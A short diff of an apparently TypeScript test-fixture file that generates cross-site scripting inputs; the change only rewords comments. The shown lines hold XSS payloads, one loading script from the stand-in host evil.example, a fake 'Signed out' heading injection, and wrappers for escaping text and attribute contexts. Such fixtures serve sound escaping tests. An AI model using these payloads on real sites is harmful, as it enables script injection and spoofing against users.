@@ -1,6 +1,6 @@
-/** DG-20, AD-01: texts that would run or tear a page apart if anything showed them as they are. Made from tables. */
+/** DG-20, AD-01: texts that would run as markup or break a page if shown unescaped. Generated from tables. */
 
-/** What is to be run, or loaded from elsewhere. */
+/** Payloads to run, or to load from another site. */
 const CARGO = [
   '<script>alert(1)</script>',
   '<script src=//evil.example/x></script>',
@@ -56,7 +56,7 @@ const CARGO = [
   '</p><h1>Signed out</h1>',
 ] as const
 
-/** How it gets out of where it was put: text, attribute, title, script, comment, address. */
+/** Escapes from each context: text, attribute, title, script, comment, address. */
 const WAYS_OUT: readonly ((cargo: string) => string)[] = [
   (cargo) => cargo,
   (cargo) => `">${cargo}`,
